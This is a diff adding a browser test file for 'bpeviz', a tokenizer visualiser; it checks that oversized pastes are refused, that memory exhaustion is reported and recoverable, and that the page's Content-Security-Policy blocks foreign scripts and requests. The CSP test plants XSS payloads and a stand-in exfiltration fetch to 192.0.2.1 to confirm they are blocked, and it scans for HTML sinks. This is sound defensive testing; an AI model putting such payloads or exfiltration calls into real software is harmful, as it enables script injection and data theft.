@@ -1,0 +1,154 @@
+// What a class pastes and opens must not break the page: a paste far beyond what the page holds is
+// refused with a message and a bounded memory footprint; memory running out says so, and a reload
+// brings the text back; the page talks to no server but its own and runs no script it did not ship.
+// (Bad tokenizer files: user_tokenizers; damaged links and a full storage: session.)
+import fs from 'node:fs';
+import path from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { assert, assertEqual, frames, openPage, setText, waitFor, waitReady, withReadyPage } from './harness.mjs';
+
+const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
+const state = (page) => page.evaluate(() => window.bpeviz.state());
+const heapMB = (page) => page.evaluate(() => Module.HEAPU8.length / 2 ** 20);
+
+// Pastes as the browser does on Ctrl+V: `unit` repeated until the text has `length` characters.
+function paste(page, unit, length) {
+  return page.evaluate(([unit, length]) => {
+    const text = unit.repeat(Math.ceil(length / unit.length)).slice(0, length);
+    const transfer = new DataTransfer();
+    transfer.setData('text/plain', text);
+    document.dispatchEvent(new ClipboardEvent('paste', { clipboardData: transfer, bubbles: true, cancelable: true }));
+  }, [unit, length]);
+}
+
+export const tests = {
+  async 'a 100 MB paste, or a line too long to draw, is refused with a message and the page keeps working'({ browser, baseUrl, out }) {
+    await withReadyPage(browser, baseUrl, {}, async (page) => {
+      await setText(page, 'The text before the paste.');
+      const before = await state(page);
+      const heapBefore = await heapMB(page);
+
+      await paste(page, 'Log line 42: all is well.\n', 100e6);
+      await frames(page, 3);
+      let s = await state(page);
+      assert(/^That text is 100\.0 MB, more than bpeviz can show \(10\.5 MB at most\); the text box was not changed/.test(s.message),
+             `the message says what happened: ${s.message}`);
+      assertEqual([s.text, s.tokens], [before.text, before.tokens], 'the text and its tokens stay');
+      // The text never entered wasm memory.
+      assertEqual(await heapMB(page), heapBefore, 'wasm memory (MB)');
+      await page.screenshot({ path: path.join(out, 'hardening-100mb-paste.png') });
+
+      await paste(page, 'minified{"a":1}', 3 * 2 ** 20);
+      await frames(page, 3);
+      s = await state(page);
+      assert(/^That text has a line of 3\.1 MB, longer than the text box can show \(1\.0 MB at most\)/.test(s.message),
+             `a line too long to draw: ${s.message}`);
+      assertEqual(s.text, before.text, 'the text stays');
+
+      // The page still works, and the message goes once the text changes.
+      await setText(page, 'Still working after 100 MB.');
+      s = await state(page);
+      assertEqual(s.message, '', 'the message is gone');
+      assert(s.tokens.length > 3 && s.tokens.at(-1).end === s.counts.bytes, 'the new text is tokenized');
+      // Nor may the JavaScript API set such a text.
+      assertEqual(await page.evaluate(() => window.bpeviz.setText('x'.repeat(11 * 2 ** 20))), false, 'setText refuses 11 MB');
+      assertEqual((await state(page)).text, 'Still working after 100 MB.', 'the text stays');
+
+      // Up to the limit, a paste lands whole.
+      await setText(page, '');
+      await paste(page, 'The quick brown fox jumps over the lazy dog.\n', 2 * 2 ** 20);
+      await waitFor(page, () => window.bpeviz.state().counts.bytes === 2 * 2 ** 20, null, 'the 2 MB paste', 60000);
+    });
+  },
+
+  async 'when memory runs out the page says so, and a reload brings the text back'({ browser, baseUrl, out }) {
+    const { context, page, errors } = await openPage(browser, baseUrl, { viewport: { width: 1280, height: 720 } });
+    try {
+      await waitReady(page);
+      const notes = 'My lecture notes: tokens are not words.';
+      await setText(page, notes);
+      await waitFor(page, (t) => (JSON.parse(localStorage.getItem('bpeviz.session') || '{}').text === t), notes, 'the text to be saved');
+      // Fill wasm memory up to its ceiling, as a huge workload would, then make the page need more.
+      const ceiling = await page.evaluate(() => {
+        for (let chunk = 256 * 2 ** 20; chunk >= 4096;) {
+          if (!Module._malloc(chunk)) chunk /= 2;
+        }
+        return Module.HEAPU8.length;
+      });
+      assert(ceiling >= 2 ** 31 - 2 ** 26 && ceiling <= 2 ** 31, `memory stops at its 2 GB ceiling: ${ceiling}`);
+      const threw = await page.evaluate(() => {
+        try { window.bpeviz.setText('more text than there is room for '.repeat(20000)); } catch (e) { return e.message; }
+        return window.bpeviz.nextFrame().then(() => 'no error', (e) => e.message);
+      }).catch((e) => e.message);
+      assert(threw !== 'no error', 'the page stopped');
+      const shown = await page.evaluate(() => document.getElementById('message').innerText);
+      assert(/^bpeviz ran out of memory: the page may use at most 2048 MB/.test(shown), `the message: ${shown}`);
+      assert(/Reload the page: your text as it was before that change comes back/.test(shown), `what to do: ${shown}`);
+      await page.screenshot({ path: path.join(out, 'hardening-out-of-memory.png') });
+
+      await page.reload();
+      await waitReady(page);
+      assertEqual((await state(page)).text, notes, 'the text after the reload');
+      assertEqual(errors.filter((e) => !/Aborted|out of memory/.test(e)), [], 'errors other than the abort');
+    } finally {
+      await context.close();
+    }
+  },
+
+  async 'the page asks only its own site, under a policy that runs no other script'({ browser, baseUrl }) {
+    const html = fs.readFileSync(path.join(root, 'index.html'), 'utf8');
+    const policy = (html.match(/http-equiv="Content-Security-Policy"\s+content="([^"]+)"/) || [])[1] || '';
+    for (const directive of ["default-src 'none'", "script-src 'self' 'wasm-unsafe-eval'", "connect-src 'self'", "style-src 'self'"]) {
+      assert(policy.split(/;\s*/).includes(directive), `index.html's Content-Security-Policy has ${directive}: ${policy}`);
+    }
+    assert(!/unsafe-inline|unsafe-eval'|\*/.test(policy.replace("'wasm-unsafe-eval'", '')), `nothing looser: ${policy}`);
+    // No user text can reach an HTML or script sink: the page's scripts use none.
+    const site = path.join(root, 'build/web/site');
+    for (const file of fs.readdirSync(site).filter((f) => f.endsWith('.js'))) {
+      const sinks = fs.readFileSync(path.join(site, file), 'utf8').match(/innerHTML|outerHTML|insertAdjacentHTML|document\.write|[^\w.]eval\(|new Function/g);
+      assertEqual(sinks, null, `HTML and script sinks in ${file}`);
+    }
+
+    const requests = [];
+    await withReadyPage(browser, baseUrl, {
+      acceptDownloads: true,
+      initScript: () => {
+        window.cspViolations = [];
+        document.addEventListener('securitypolicyviolation', (e) => window.cspViolations.push(`${e.violatedDirective} ${e.blockedURI}`));
+      },
+    }, async (page, session) => {
+      page.on('request', (r) => requests.push(r.url()));
+      // A session that touches every feature that loads or saves something.
+      await setText(page, 'Hello, 🌍! <script>alert(1)</script> <img src=x onerror=alert(1)>');
+      await page.evaluate(() => window.bpeviz.setEncoding('cl100k_base'));
+      await page.evaluate(() => window.bpeviz.setEncoding('gpt2'));
+      await page.evaluate(() => window.bpeviz.showPanel('studio'));
+      await page.evaluate(() => window.bpeviz.studio({ source: 'text', merges: 20, train: true }));
+      await Promise.all([page.waitForEvent('download'), page.evaluate(() => window.bpeviz.studio({ export: 'tiktoken' }))]);
+      await page.evaluate(() => window.bpeviz.copyLink());
+      await frames(page, 2);
+      const violations = await page.evaluate(() => window.cspViolations);
+      assertEqual(violations, [], 'policy violations by the page');
+      // What the policy stops if markup ever got in: an inline script does not run, and no request
+      // leaves for another server.
+      const blocked = await page.evaluate(async () => {
+        const script = document.createElement('script');
+        script.textContent = 'window.inlineScriptRan = true';
+        document.body.appendChild(script);
+        let fetched = 'sent';
+        try { await fetch('http://192.0.2.1/collect?text=secret'); } catch (e) { fetched = e.name; }
+        await new Promise((resolve) => setTimeout(resolve, 100));
+        return { ran: Boolean(window.inlineScriptRan), fetched, violations: window.cspViolations.map((v) => v.split(' ')[0]) };
+      });
+      assertEqual(blocked, { ran: false, fetched: 'TypeError', violations: ['script-src-elem', 'connect-src'] }, 'what the policy blocks');
+      session.errors.length = 0;  // the browser reports both refusals on the console, as it should
+      const text = (await state(page)).text;
+      assert(text.includes('<script>alert(1)</script>'), 'markup in the text is text');
+    });
+    const origin = new URL(baseUrl).origin;
+    const foreign = requests.filter((u) => !u.startsWith(`${origin}/`) && !/^(data|blob):/.test(u));
+    assertEqual(foreign, [], 'requests to other origins');
+    assert(requests.some((u) => u.includes('encodings/cl100k_base')), 'the encodings came from the site itself');
+    assert(!requests.some((u) => u.includes('192.0.2.1')), 'the blocked request never left');
+  },
+};
